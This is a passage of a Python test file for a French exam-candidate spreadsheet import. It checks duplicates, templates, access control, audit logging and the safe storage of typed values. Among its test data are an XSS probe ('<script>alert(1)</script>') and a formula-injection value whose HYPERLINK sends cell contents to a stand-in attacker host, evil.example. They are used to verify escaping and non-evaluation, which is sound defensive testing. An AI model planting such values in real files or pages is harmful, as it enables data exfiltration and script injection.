            target.writestr(name.replace("sheet1.xml", "sheet1.dat"), content)

    response = channel.send(exam_session, "liste.xlsx", out.getvalue())

    assert response.status_code == 400
    assert errors_of(response) == ["Le classeur est trop volumineux une fois décompressé."]


# --- Duplicates ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("first", "second"),
    [
        (("Zoé", "Martin"), ("zoe", "MARTIN")),
        (("Jean-Pierre", "O'Neil"), ("Jean Pierre", "ONEIL")),
        (("Anaïs", "Lefèvre-Dupont"), ("ANAIS", "lefevre dupont")),
        (("Chloé", "D’Arc"), ("  Chloe ", "d arc")),
    ],
)
def test_it_refuses_two_rows_for_the_same_person_naming_both_lines(
    channel, exam_session, first, second
):
    """Same names (accents, case, hyphens, apostrophes ignored) and birthdate: refused."""
    data = csv_file(
        candidate_row(*first, "14/03/2008"),
        candidate_row("Noé", "Bernard"),
        candidate_row(*second, "14/03/2008"),
    )

    response = channel.send(exam_session, "liste.csv", data)

    assert response.status_code == 400
    assert errors_of(response) == [
        "Ligne 4 : même candidat qu'à la ligne 2 (nom, prénom et date de naissance)."
    ]
    assert candidates_of(exam_session) == []


def test_it_refuses_a_row_for_a_candidate_already_enrolled(channel, exam_session, candidate):
    """A row naming a candidate already enrolled in the session is refused."""
    data = csv_file(candidate_row("Noé", "Bernard"), candidate_row("LEA", "dupont", "14/03/2008"))

    response = channel.send(exam_session, "liste.csv", data)

    assert response.status_code == 400
    assert errors_of(response) == [
        "Ligne 3 : Ce candidat est déjà inscrit à la session "
        "(même nom, prénom et date de naissance)."
    ]
    assert candidates_of(exam_session) == [candidate]


def test_it_accepts_a_person_enrolled_in_another_session(admin_client_, exam_session, candidate):
    """Being enrolled in another session does not prevent an import into this one."""
    other = CandidateFactory(
        session__centre=exam_session.centre, first_name="Zoé", last_name="Martin"
    )

    data = csv_file(candidate_row("Zoé", "Martin", "14/03/2008"))
    response = post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    assert response.status_code == 302
    assert other.session != exam_session
    assert len(candidates_of(exam_session)) == 2


# --- What people type is stored as text ---------------------------------------------------


def test_it_stores_html_in_names_as_text_and_escapes_it_on_the_session_page(
    admin_client_, exam_session
):
    """A name with a <script> tag is stored as typed and shown escaped, never as a tag."""
    data = csv_file(candidate_row("<script>alert(1)</script>", "<b>Dupont</b>"))

    post_file(admin_client_, page_url(exam_session), "liste.csv", data)
    page = admin_client_.get(reverse("exams:session_detail", args=[exam_session.pk]))

    (candidate,) = candidates_of(exam_session)
    assert candidate.first_name == "<script>alert(1)</script>"
    html = page.content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;B&gt;DUPONT&lt;/B&gt;" in html
    assert "<script>alert(1)" not in html
    assert "<B>DUPONT" not in html


@pytest.mark.parametrize("kind", ["csv", "ods"])
def test_it_stores_formula_looking_values_as_typed(admin_client_, exam_session, kind):
    """A value looking like a spreadsheet formula is stored as typed, not evaluated."""
    formula = '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")'
    rows = [CANDIDATE_HEADERS, candidate_row(formula, "+Dupont", external_id="@SUM(1+1)")]
    data = make_csv(rows) if kind == "csv" else make_ods(rows)

    response = post_file(admin_client_, page_url(exam_session), f"liste.{kind}", data)

    assert response.status_code == 302
    (candidate,) = candidates_of(exam_session)
    assert (candidate.first_name, candidate.last_name, candidate.external_id) == (
        formula,
        "+Dupont",
        "@SUM(1+1)",
    )


def test_it_imports_a_long_name_full_of_ligatures(admin_client_, exam_session):
    """A name within 100 characters imports even when its ligatures (œ, æ) double its key."""
    data = csv_file(candidate_row("Œ" * 60, "Cœur" * 25))

    response = post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    assert response.status_code == 302
    assert [c.first_name for c in candidates_of(exam_session)] == ["Œ" * 60]


# --- Downloadable templates ---------------------------------------------------------------


def test_it_serves_a_csv_template_that_reimports_once_filled(admin_client_, exam_session):
    """The .csv template, with rows appended, imports as is."""
    url = reverse("exams:candidate_template", args=[exam_session.pk, "csv"])
    template = admin_client_.get(url)
    assert template.status_code == 200
    assert template["Content-Type"] == "text/csv; charset=utf-8"
    filled = template.content + make_csv(
        [candidate_row("Léa"), candidate_row("Zoé", sex="Homme", extra_time="33")]
    )

    response = post_file(admin_client_, page_url(exam_session), "modele-candidats.csv", filled)

    assert response.status_code == 302
    assert [c.first_name for c in candidates_of(exam_session)] == ["Léa", "Zoé"]


def test_it_serves_an_ods_template_that_reimports_once_filled(admin_client_, exam_session):
    """The .ods template, opened and with rows appended to its sheet, imports as is."""
    url = reverse("exams:candidate_template", args=[exam_session.pk, "ods"])
    template = admin_client_.get(url)
    assert template["Content-Type"] == "application/vnd.oasis.opendocument.spreadsheet"
    document = load_ods(io.BytesIO(template.content))
    (sheet,) = document.spreadsheet.getElementsByType(Table)
    sheet.addElement(ods_row(candidate_row("Léa")))
    sheet.addElement(ods_row(candidate_row("Zoé", sex="Homme")))
    out = io.BytesIO()
    document.write(out)

    response = post_file(admin_client_, page_url(exam_session), "modele.ods", out.getvalue())

    assert response.status_code == 302, errors_of(response)
    assert [c.first_name for c in candidates_of(exam_session)] == ["Léa", "Zoé"]


def test_it_serves_an_ods_template_whose_headers_calamine_reads(admin_client_, exam_session):
    """The .ods template opens in calamine with every column, required ones starred."""
    url = reverse("exams:candidate_template", args=[exam_session.pk, "ods"])

    content = admin_client_.get(url).content

    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert rows == [CANDIDATE_HEADERS]
    assert rows[0][:5] == [
        "Prénom *",
        "Nom de naissance *",
        "Date de naissance (JJ/MM/AAAA) *",
        "Sexe (M/F) *",
        "Commune de naissance *",
    ]


def test_it_serves_no_template_in_another_format(admin_client_, exam_session):
    """Only .csv and .ods templates exist."""
    url = reverse("exams:candidate_template", args=[exam_session.pk, "xls"])

    assert admin_client_.get(url).status_code == 404


@pytest.mark.parametrize("persona", ["invigilator", "other_centre_admin"])
def test_it_serves_the_template_only_to_the_centre(client, exam_session, persona, request):
    """Someone outside the centre cannot download the session's template."""
    client.force_login(request.getfixturevalue(persona))
    url = reverse("exams:candidate_template", args=[exam_session.pk, "csv"])

    assert client.get(url).status_code == 404


# --- Who may import -----------------------------------------------------------------------


def test_it_shows_the_import_form_to_the_centre_admin(admin_client_, exam_session):
    """The centre admin sees the form and both template links."""
    response = admin_client_.get(page_url(exam_session))

    assert response.status_code == 200
    html = response.content.decode()
    assert 'type="file"' in html
    assert reverse("exams:candidate_template", args=[exam_session.pk, "ods"]) in html
    assert reverse("exams:candidate_template", args=[exam_session.pk, "csv"]) in html


def test_it_asks_for_a_file_when_none_is_sent(admin_client_, exam_session):
    """Submitting the form without a file asks for one."""
    response = admin_client_.post(page_url(exam_session), {})

    assert response.status_code == 400
    (error,) = errors_of(response)
    assert error.startswith("Choisissez un fichier")


def test_it_sends_anonymous_visitors_to_the_login_page(client, exam_session):
    """An anonymous visitor is sent to the login page and nothing is imported."""
    response = post_file(client, page_url(exam_session), "l.csv", csv_file(candidate_row()))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))
    assert candidates_of(exam_session) == []


def test_it_refuses_anonymous_api_calls(client, exam_session):
    """An anonymous API call is refused with 401 and nothing is imported."""
    response = post_file(client, api_url(exam_session), "l.csv", csv_file(candidate_row()))

    assert response.status_code == 401
    assert candidates_of(exam_session) == []


@pytest.mark.parametrize("kind", ["page", "api"])
@pytest.mark.parametrize("persona", ["invigilator", "other_centre_admin", "jury", "candidate_user"])
def test_it_hides_the_session_from_people_outside_the_centre(
    client, exam_session, kind, persona, request
):
    """A user who is not a member of the session's centre gets a 404; nothing is imported."""
    client.force_login(request.getfixturevalue(persona))
    url = page_url(exam_session) if kind == "page" else api_url(exam_session)

    response = post_file(client, url, "liste.csv", csv_file(candidate_row()))

    assert response.status_code == 404
    assert candidates_of(exam_session) == []
    assert not AuditEvent.objects.filter(tag=IMPORT_TAG).exists()


def test_it_refuses_an_import_into_a_finalized_session_on_the_page(admin_client_, exam_session):
    """A finalized session refuses the import on the page: « n'est plus modifiable »."""
    exam_session.finalized_at = timezone.now()
    exam_session.save()

    response = post_file(admin_client_, page_url(exam_session), "l.csv", csv_file(candidate_row()))

    assert response.status_code == 400
    (error,) = errors_of(response)
    assert "n'est plus modifiable" in error
    assert candidates_of(exam_session) == []


def test_it_refuses_an_import_into_a_finalized_session_on_the_api(
    client, centre_admin, exam_session
):
    """A finalized session refuses the API import with 409: « n'est plus modifiable »."""
    exam_session.finalized_at = timezone.now()
    exam_session.save()
    client.force_login(centre_admin)

    response = post_file(client, api_url(exam_session), "l.csv", csv_file(candidate_row()))

    assert response.status_code == 409
    assert "n'est plus modifiable" in response.json()["detail"]
    assert candidates_of(exam_session) == []


def test_it_returns_the_created_candidates_from_the_api(client, centre_admin, exam_session):
    """The API answers 201 with the imported candidates."""
    client.force_login(centre_admin)
    data = csv_file(candidate_row("Léa"), candidate_row("Zoé", "Martin", extra_time="33"))

    response = post_file(client, api_url(exam_session), "liste.csv", data)

    assert response.status_code == 201
    body = response.json()
    assert [(c["first_name"], c["extra_time_percentage"]) for c in body] == [
        ("Léa", 0),
        ("Zoé", 33),
    ]
    assert {c["id"] for c in body} == {c.pk for c in candidates_of(exam_session)}


# --- Audit --------------------------------------------------------------------------------


def test_it_records_who_imported_which_file(channel, centre_admin, exam_session):
    """A successful import writes one `centre:candidate:import` event with file and count."""
    data = csv_file(candidate_row("Léa"), candidate_row("Zoé"))

    channel.send(exam_session, "liste-3e.csv", data)

    (event,) = AuditEvent.objects.filter(tag=IMPORT_TAG)
    assert event.actor == centre_admin
    assert event.session == exam_session
    assert event.session_number == exam_session.number
    assert event.data == {"filename": "liste-3e.csv", "count": 2}


def test_it_records_no_event_when_the_import_fails(channel, exam_session):
    """A refused file leaves no import event."""
    data = csv_file(candidate_row("Léa"), candidate_row("Zoé", sex="X"))

    channel.send(exam_session, "liste.csv", data)

    assert not AuditEvent.objects.filter(tag=IMPORT_TAG).exists()


def test_it_records_no_event_when_the_session_is_finalized(admin_client_, exam_session):
    """An import refused because the session is finalized leaves no import event."""
    exam_session.finalized_at = timezone.now()
    exam_session.save()

    post_file(admin_client_, page_url(exam_session), "l.csv", csv_file(candidate_row()))

    assert not AuditEvent.objects.filter(tag=IMPORT_TAG).exists()


# --- Property: any first name ---------------------------------------------------------------

# Printable text a person may type: letters with accents, digits, quotes, HTML and formula
# characters, the CSV delimiters and several kinds of spaces. Ligatures (œ, æ) are left out:
# their known PostgreSQL failure has its own test above.
NAME_ALPHABET = (
    string.ascii_letters
    + string.digits
    + "éèêëàâäîïôöùûüçÿñÉÈÀÇÎÔÙ"
    + " \t\u00a0-'’\"<>&=+@;,.()/!?#%*"
)


class _Rollback(Exception):
    pass


@settings(
    max_examples=40,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(name=st.text(alphabet=NAME_ALPHABET, max_size=110))
def test_it_imports_any_typed_first_name_exactly_or_refuses_it_on_its_line(
    exam_session, centre_admin, name
):
    """Any first name is imported with spaces collapsed, or refused naming line 2: never a crash."""
    data = csv_file(candidate_row(first=name))
    expected = " ".join(name.split())

    try:
        rows = parse_candidates(exam_session, "liste.csv", data)
    except SpreadsheetError as error:
        assert error.errors
        assert all(e.startswith("Ligne 2") for e in error.errors), error.errors
        return
    assert [row["first_name"] for row in rows] == [expected]
    # Saving must work too; roll back so that every example starts from an empty session.
    with contextlib.suppress(_Rollback), transaction.atomic():
        (created,) = do_import_candidates(exam_session, rows, actor=centre_admin, filename="l.csv")
        created.refresh_from_db()
        assert created.first_name == expected
        raise _Rollback
    assert candidates_of(exam_session) == []
